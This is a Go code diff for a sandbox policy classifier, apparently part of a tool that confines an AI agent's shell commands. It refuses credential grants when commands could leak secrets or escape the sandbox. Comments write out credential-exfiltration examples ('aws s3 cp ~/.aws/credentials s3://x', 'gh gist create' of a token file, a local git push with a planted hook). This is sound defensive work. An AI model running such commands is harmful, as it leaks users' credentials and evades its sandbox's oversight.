@@ -2,12 +2,16 @@ package classify
 
 import (
 	"fmt"
+	"io/fs"
+	"path"
 	"slices"
 	"strings"
 
 	"github.com/bmatcuk/doublestar/v4"
 
+	"github.com/safezonehq/safezone/classify/shell"
 	"github.com/safezonehq/safezone/policy"
+	"github.com/safezonehq/safezone/policy/glob"
 )
 
 // What the kernel holds inside the sandbox roots (README, "What the kernel
@@ -224,11 +228,254 @@ func (d *decider) grants(r *Result) {
 			return
 		}
 	}
+	var grants []policy.Grant
 	for i, m := range matched {
 		if m {
-			r.Grants = append(r.Grants, d.pol.Confine.Grants[i])
+			grants = append(grants, d.pol.Confine.Grants[i])
 		}
 	}
+	if len(grants) == 0 {
+		return
+	}
+	if why := d.grantRefused(r, grants); why != "" {
+		r.GrantRefused = why
+		return
+	}
+	r.Grants = grants
+}
+
+// grantRefused says why grants, matched by commands of the call, must not
+// apply, or "". A grant holds for the whole confined process tree, so:
+//
+//   - every other command of the line must reach only paths inside the
+//     sandbox roots (`gh --version; grep -r oauth ~/.config` would read
+//     the token under gh's grant);
+//   - a granted command must not name a path its grant exposes (`gh gist
+//     create ~/.config/gh/hosts.yml`, `aws s3 cp ~/.aws/credentials
+//     s3://x`): the grant lets the tool use its credentials, not hand them
+//     on;
+//   - a granted git command must run in a repository that is a sandbox
+//     root's own (its .git/config and hooks kept read-only in the
+//     kernel), against remotes reached over the network: a local
+//     repository's hooks run with the grant (`git push /tmp/bare.git`
+//     with a planted pre-receive hook), and a repository the agent may
+//     write names the programs git runs (core.sshCommand).
+func (d *decider) grantRefused(r *Result, grants []policy.Grant) string {
+	granted := map[int]bool{}
+	for j := range d.shell.Commands {
+		c := &d.shell.Commands[j]
+		for i := range grants {
+			if len(c.Argv) > 0 && matchShellRule(&grants[i].Command, c.Argv, true) {
+				granted[j] = true
+			}
+		}
+	}
+	for i := range r.Targets {
+		t := &r.Targets[i]
+		if granted[t.Cmd] {
+			continue
+		}
+		views := t.views()
+		for _, g := range t.Globs {
+			dir, _ := glob.LiteralPrefix(g)
+			views = append(views, path.Clean("/"+dir))
+		}
+		for _, v := range views {
+			if !d.inside(v, t.Access) {
+				return fmt.Sprintf("%s reaches %s, outside the sandbox, and would run with the grant", strings.Join(d.shell.Commands[t.Cmd].Argv, " "), v)
+			}
+		}
+	}
+	for j := range d.shell.Commands {
+		if !granted[j] {
+			continue
+		}
+		c := &d.shell.Commands[j]
+		cwd := ""
+		if len(c.Cwd) == 1 {
+			cwd = c.Cwd[0]
+		}
+		for _, w := range c.Argv[1:] {
+			if _, v, ok := strings.Cut(w, "="); ok && strings.HasPrefix(w, "-") {
+				w = v
+			}
+			p := d.pathWord(w, cwd)
+			if p == "" {
+				continue
+			}
+			for _, v := range d.wordViews(p) {
+				for gi := range grants {
+					for k := range grants[gi].Read {
+						if matchPattern(&grants[gi].Read[k], v, &r.anchors) {
+							return fmt.Sprintf("%s names %s, which its grant would leave readable", strings.Join(c.Argv, " "), w)
+						}
+					}
+				}
+			}
+		}
+		if c.Argv[0] == "git" {
+			if why := d.gitGrantRefused(c, cwd); why != "" {
+				return why
+			}
+		}
+	}
+	return ""
+}
+
+// pathWord returns the absolute, clean path a word of a granted command
+// may name (it has a slash, or starts with "~" or "."), or "".
+func (d *decider) pathWord(w, cwd string) string {
+	switch {
+	case w == "~" || strings.HasPrefix(w, "~/"):
+		if d.env.Home == "" {
+			return ""
+		}
+		return path.Join(d.env.Home, w[1:])
+	case strings.HasPrefix(w, "/"):
+		return path.Clean(w)
+	case strings.Contains(w, "://"):
+		return ""
+	case strings.HasPrefix(w, ".") || strings.Contains(w, "/"):
+		if cwd == "" {
+			return ""
+		}
+		return path.Join(cwd, w)
+	}
+	return ""
+}
+
+// wordViews returns p and where it resolves.
+func (d *decider) wordViews(p string) []string {
+	out := []string{p}
+	if res, err := Resolve(d.fsys, p); err == nil && res.Path != p {
+		out = append(out, res.Path)
+	}
+	return out
+}
+
+// gitGrantRefused says why a granted git command (push, fetch, pull,
+// ls-remote, clone, submodule) must not get its grant, or "": see
+// grantRefused. The repository is found from cwd upwards; its remotes
+// are read from its .git/config (`[remote "NAME"]` sections' url and
+// pushurl).
+func (d *decider) gitGrantRefused(c *shell.Command, cwd string) string {
+	if cwd == "" {
+		return "git's working directory is not known"
+	}
+	var sub string
+	var operands []string
+	for _, w := range c.Argv[1:] {
+		switch {
+		case strings.HasPrefix(w, "-"):
+		case sub == "":
+			sub = w
+		default:
+			operands = append(operands, w)
+		}
+	}
+	if sub == "clone" {
+		if len(operands) == 0 || !networkRemote(operands[0]) {
+			return "git clone from a local repository needs no credentials, and its hooks would run with them"
+		}
+		return ""
+	}
+	top := ""
+	for dir := cwd; ; dir = path.Dir(dir) {
+		if _, err := d.fsys.Lstat(strings.TrimPrefix(path.Join(dir, ".git"), "/")); err == nil {
+			top = dir
+			break
+		}
+		if dir == "/" {
+			break
+		}
+	}
+	own := false
+	for _, root := range d.roots {
+		if top != "" && !root.ReadOnly && (top == root.Path || top == root.Resolved) {
+			own = true
+		}
+	}
+	if !own {
+		return "git runs in a repository that is not a sandbox root's own, whose configuration the kernel does not keep read-only"
+	}
+	remotes := gitURLs(d.fsys, path.Join(top, ".git", "config"), "remote")
+	if remotes == nil {
+		return "git's configuration in " + top + " cannot be read, so its remotes are not known"
+	}
+	if sub == "submodule" {
+		// The submodules' URLs come from .gitmodules, which the agent
+		// may write.
+		for n, urls := range gitURLs(d.fsys, path.Join(top, ".gitmodules"), "submodule") {
+			remotes["submodule "+n] = urls
+		}
+	}
+	names := []string{}
+	if (sub == "push" || sub == "fetch" || sub == "pull" || sub == "ls-remote") && len(operands) > 0 {
+		names = operands[:1]
+	} else {
+		for n := range remotes {
+			names = append(names, n)
+		}
+	}
+	for _, n := range names {
+		urls, ok := remotes[n]
+		if !ok {
+			urls = []string{n}
+		}
+		for _, u := range urls {
+			if !networkRemote(u) {
+				return fmt.Sprintf("git reaches %s, a repository on this machine, whose hooks would run with the grant", u)
+			}
+		}
+	}
+	return ""
+}
+
+// networkRemote reports whether a git URL reaches another machine: a
+// scheme of ssh, git, http or https, or scp's [user@]host:path; not a
+// local path, file://, or a remote helper (ext::, fd::).
+func networkRemote(u string) bool {
+	for _, s := range []string{"ssh://", "git+ssh://", "ssh+git://", "git://", "http://", "https://"} {
+		if strings.HasPrefix(u, s) {
+			return true
+		}
+	}
+	host, _, ok := strings.Cut(u, ":")
+	return ok && host != "" && !strings.Contains(host, "/") && !strings.HasPrefix(u, ".") &&
+		!strings.Contains(u, "::") && !strings.Contains(u, "://")
+}
+
+// gitURLs reads the url and pushurl of each [KIND "NAME"] section of the
+// git configuration file at abs (git-config(1)'s syntax, simply: no
+// includes, no continuation lines), by NAME; nil when it cannot be read.
+func gitURLs(fsys fs.ReadLinkFS, abs, kind string) map[string][]string {
+	data, err := fs.ReadFile(fsys, strings.TrimPrefix(abs, "/"))
+	if err != nil {
+		return nil
+	}
+	out := map[string][]string{}
+	name := ""
+	for _, line := range strings.Split(string(data), "\n") {
+		line = strings.TrimSpace(line)
+		if strings.HasPrefix(line, "[") {
+			name = ""
+			if rest, ok := strings.CutPrefix(line, "["+kind+" \""); ok {
+				if n, _, ok := strings.Cut(rest, "\"]"); ok {
+					name = n
+					out[name] = out[name]
+				}
+			}
+			continue
+		}
+		if name == "" {
+			continue
+		}
+		k, v, ok := strings.Cut(line, "=")
+		if k = strings.ToLower(strings.TrimSpace(k)); ok && (k == "url" || k == "pushurl") {
+			out[name] = append(out[name], strings.Trim(strings.TrimSpace(v), "\""))
+		}
+	}
+	return out
 }
 
 // Granted returns the grant of r.Grants whose Read patterns match the
